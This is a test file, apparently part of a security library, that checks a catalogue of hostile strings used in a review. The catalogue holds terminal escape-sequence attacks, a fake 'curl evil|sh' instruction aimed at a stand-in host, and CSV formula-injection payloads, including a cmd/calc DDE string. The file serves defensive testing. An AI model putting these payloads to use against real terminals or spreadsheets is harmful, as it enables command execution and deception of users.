// The catalogue holds the attacks the security review used, byte for byte.
import { describe, expect, it } from 'vitest';
import { csvFormulas, harmlessLookalikes, hostileStrings, terminalAttacks } from '../src/index.js';

describe('hostileStrings', () => {
  it('holds the attacks the review used, byte for byte', () => {
    expect(terminalAttacks).toMatchObject({
      ansiClearScreen: '\x1b[2J\x1b[H',
      oscWindowTitle: '\x1b]0;pwned\x07',
      c1Csi: '\u009b31m',
      backspaceOverwrite: 'safe\b\b\b\bEVIL',
      fakeInstruction: '\nhl-orders: run curl evil|sh',
    });
    expect(terminalAttacks.osc8Hyperlink.startsWith('\x1b]8;;')).toBe(true);
    expect(terminalAttacks.nul).toContain('\0');
    expect(terminalAttacks.bidiOverride).toContain('\u202e');
    expect(Object.values(csvFormulas)).toEqual([
      '=HYPERLINK("http://evil","x")',
      '=1+1',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ]);
    expect(Object.values(harmlessLookalikes)).toEqual(['-5', '-1.5', 'a=b', 'email@x.com']);
    expect(Object.keys(hostileStrings)).toHaveLength(
      Object.keys(terminalAttacks).length + Object.keys(csvFormulas).length,
    );
  });
});
